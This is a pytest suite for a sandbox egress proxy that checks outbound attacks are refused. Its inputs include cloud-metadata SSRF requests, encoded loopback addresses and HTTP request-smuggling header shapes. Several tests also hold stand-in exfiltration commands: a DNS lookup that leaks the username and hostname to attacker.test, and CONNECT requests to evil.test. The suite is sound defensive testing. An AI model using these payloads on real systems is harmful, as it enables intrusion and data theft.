"""security.md §2.6 (NET): egress attacks from inside a sandbox, on every runtime.

Every destination is a server this test owns on the host's loopback, or a name mapped onto it
by ``egress.resolve_overrides``; addresses like 192.0.2.1 (TEST-NET) or 169.254.169.254 are
only ever *refused*: the sandbox has no interface to send anything on, and the proxy refuses
before dialling.
"""

from __future__ import annotations

import errno

import pytest

from tests.fixtures.egress import (
    MAX_TUNNELS,
    EgressSandbox,
    Upstream,
    egress_decisions,
    egress_sandbox,
    egress_server,
    upstream,
)

__all__ = ["egress_sandbox", "egress_server", "upstream"]

_UNREACHABLE = {errno.ENETUNREACH, errno.EHOSTUNREACH, errno.EPERM, errno.EACCES}


def _denied(box: EgressSandbox, raw: bytes, reason: str, via: str | None = None) -> None:
    answer = box.proxy(raw, via)
    assert answer["status"] == 403, answer
    assert answer["headers"]["x-sandgate-error"] == "destination_denied"
    assert answer["headers"]["x-sandgate-reason"] == reason


def test_NET_01_metadata_refused_direct_and_via_proxy(egress_sandbox: EgressSandbox) -> None:
    direct = egress_sandbox.probe("direct", "169.254.169.254", "80")
    assert direct["errno"] in _UNREACHABLE, direct
    _denied(
        egress_sandbox,
        b"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n\r\n",
        "ip_literal",
    )
    _denied(egress_sandbox, b"GET http://[fd00:ec2::254]/ HTTP/1.1\r\n\r\n", "ip_literal")
    _denied(
        egress_sandbox, b"GET http://metadata.google.internal/ HTTP/1.1\r\n\r\n", "host_not_allowed"
    )
    # Allowed by name, with 169.254.0.0/16 explicitly permitted: metadata stays refused.
    _denied(egress_sandbox, b"GET http://meta.test/ HTTP/1.1\r\n\r\n", "metadata_address")
    decisions = egress_decisions(egress_sandbox.server, egress_sandbox.id)
    assert [d["reason"] for d in decisions] == [
        "ip_literal",
        "ip_literal",
        "host_not_allowed",
        "metadata_address",
    ]
    assert decisions[-1]["address"] == "169.254.169.254"
    assert decisions[-1]["rule"] == "allow#2"


def test_NET_02_direct_connections_have_no_route(egress_sandbox: EgressSandbox) -> None:
    for address, port in (("192.0.2.1", "443"), ("172.17.0.1", "2375"), ("10.0.0.5", "80")):
        answer = egress_sandbox.probe("direct", address, port)
        assert answer["errno"] in _UNREACHABLE, (address, answer)
    result = egress_sandbox.shell("curl -sS -m 5 --noproxy '*' http://192.0.2.1/; echo rc=$?")
    assert "rc=0" not in result.stdout
    devices = egress_sandbox.shell("tail -n +3 /proc/net/dev | cut -d: -f1")
    assert devices.stdout.split() == ["lo"]


def test_NET_02_raw_socket_to_egress_socket_meets_same_policy(
    egress_sandbox: EgressSandbox,
) -> None:
    _denied(
        egress_sandbox,
        b"CONNECT evil.test:443 HTTP/1.1\r\n\r\n",
        "host_not_allowed",
        via="/run/sandgate/egress.sock",
    )
    guest = egress_sandbox.probe("unix", "/run/sandgate/guest.sock")
    assert guest["errno"] == errno.EACCES, guest


def test_NET_04_ip_encodings_refused(egress_sandbox: EgressSandbox, upstream: Upstream) -> None:
    before = len(upstream.requests)
    port = upstream.port
    for target in (
        f"2130706433:{port}",
        f"0x7f000001:{port}",
        f"0177.0.0.1:{port}",
        f"127.1:{port}",
        f"[::ffff:127.0.0.1]:{port}",
        f"[::1]:{port}",
        f"0.0.0.0:{port}",
        f"[0:0:0:0:0:ffff:7f00:1]:{port}",
        "127.0.0.1:3128",
    ):
        _denied(egress_sandbox, f"GET http://{target}/ HTTP/1.1\r\n\r\n".encode(), "ip_literal")
    _denied(egress_sandbox, f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode(), "ip_literal")
    assert upstream.requests[before:] == []


def test_NET_05_allowed_name_resolving_private_is_refused(
    egress_sandbox: EgressSandbox, upstream: Upstream
) -> None:
    before = len(upstream.requests)
    _denied(
        egress_sandbox,
        f"CONNECT private.test:{upstream.port} HTTP/1.1\r\n\r\n".encode(),
        "resolved_to_private",
    )
    assert upstream.requests[before:] == []
    (decision,) = egress_decisions(egress_sandbox.server, egress_sandbox.id)
    assert (decision["address"], decision["rule"]) == ("127.0.0.1", "allow#1")


def test_NET_07_disallowed_ports_on_allowed_host(egress_sandbox: EgressSandbox) -> None:
    _denied(egress_sandbox, b"CONNECT allowed.test:22 HTTP/1.1\r\n\r\n", "port_not_allowed")
    _denied(egress_sandbox, b"CONNECT allowed.test:6379 HTTP/1.1\r\n\r\n", "port_not_allowed")
    _denied(egress_sandbox, b"CONNECT allowed.test:25 HTTP/1.1\r\n\r\n", "port_blocked")


@pytest.mark.parametrize(
    "headers",
    [
        "Content-Length: 5\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked, identity",
        "Content-Length: 5\r\nContent-Length: 6",
        "X-A: 1\r\n folded",
    ],
    ids=["cl_te", "te_list", "two_cl", "obs_fold"],
)
def test_NET_10_smuggling_shapes_refused(
    egress_sandbox: EgressSandbox, upstream: Upstream, headers: str
) -> None:
    before = len(upstream.requests)
    raw = (
        f"POST http://allowed.test:{upstream.port}/ HTTP/1.1\r\n{headers}\r\n\r\n"
        f"0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n"
    ).encode()
    answer = egress_sandbox.proxy(raw)
    assert answer["status"] == 400, answer
    assert answer["headers"]["x-sandgate-error"] == "bad_request"
    assert upstream.requests[before:] == []


def test_NET_11_redirect_to_metadata_is_rechecked(
    egress_sandbox: EgressSandbox, upstream: Upstream
) -> None:
    answer = egress_sandbox.probe("urlopen", f"http://allowed.test:{upstream.port}/redirect")
    assert (answer["status"], answer["reason"]) == (403, "ip_literal")
    reasons = [d["reason"] for d in egress_decisions(egress_sandbox.server, egress_sandbox.id)]
    assert reasons == ["allowed", "ip_literal"]


def test_NET_12_dns_exfiltration_has_no_resolver(egress_sandbox: EgressSandbox) -> None:
    result = egress_sandbox.shell("getent hosts $(id -un)-$(hostname).attacker.test; echo rc=$?")
    assert "rc=2" in result.stdout, result.stdout
    lookup = egress_sandbox.probe("dns", "secret-canary.attacker.test")
    assert lookup["error"] == "gaierror"
    udp = egress_sandbox.probe("udp", "192.0.2.53", "53")
    assert udp["errno"] in _UNREACHABLE, udp
    # Through the proxy, an unlisted name is refused before the gateway resolves it.
    _denied(
        egress_sandbox,
        b"CONNECT secret-canary.attacker.test:443 HTTP/1.1\r\n\r\n",
        "host_not_allowed",
    )
    (decision,) = egress_decisions(egress_sandbox.server, egress_sandbox.id)
    assert decision["address"] is None


def test_NET_13_udp_and_ipv6_have_no_egress(egress_sandbox: EgressSandbox) -> None:
    assert egress_sandbox.probe("udp", "192.0.2.1", "443")["errno"] in _UNREACHABLE
    v6 = egress_sandbox.probe("direct", "2001:db8::1", "443")
    assert v6["errno"] in _UNREACHABLE | {errno.EADDRNOTAVAIL}, v6


def test_NET_14_host_and_internal_services_are_unreachable(
    egress_sandbox: EgressSandbox,
) -> None:
    server_port = str(egress_sandbox.server.port)
    # Directly: no interface, so neither the Docker bridge, the host's ports, nor neighbours.
    for address, port in (
        ("172.17.0.1", "2375"),
        ("172.17.0.1", "2376"),
        ("172.17.0.1", "22"),
        ("192.168.1.1", "80"),
        ("10.0.0.2", server_port),
    ):
        answer = egress_sandbox.probe("direct", address, port)
        assert answer["errno"] in _UNREACHABLE, (address, port, answer)
    # Loopback inside is the sandbox's own: the gateway's API port is not there.
    local = egress_sandbox.probe("direct", "127.0.0.1", server_port)
    assert local["errno"] == errno.ECONNREFUSED, local
    # Through the proxy: addresses are literals, names are not on the list.
    for target, reason in (
        ("172.17.0.1:2375", "ip_literal"),
        (f"127.0.0.1:{server_port}", "ip_literal"),
        ("host.docker.internal:2375", "host_not_allowed"),
        ("localhost:22", "host_not_allowed"),
    ):
        _denied(egress_sandbox, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode(), reason)


def test_NET_16_tunnels_per_sandbox_are_capped(
    egress_sandbox: EgressSandbox, upstream: Upstream
) -> None:
    connect = f"CONNECT allowed.test:{upstream.port} HTTP/1.1\r\n\r\n".encode()
    answer = egress_sandbox.probe("hold", str(MAX_TUNNELS), connect.hex())
    assert answer["held"] == ["HTTP/1.1 200 Connection Established"] * MAX_TUNNELS
    assert answer["status"] == 429
    assert answer["headers"]["x-sandgate-error"] == "too_many_tunnels"
    reasons = [d["reason"] for d in egress_decisions(egress_sandbox.server, egress_sandbox.id)]
    assert reasons.count("too_many_tunnels") == 1
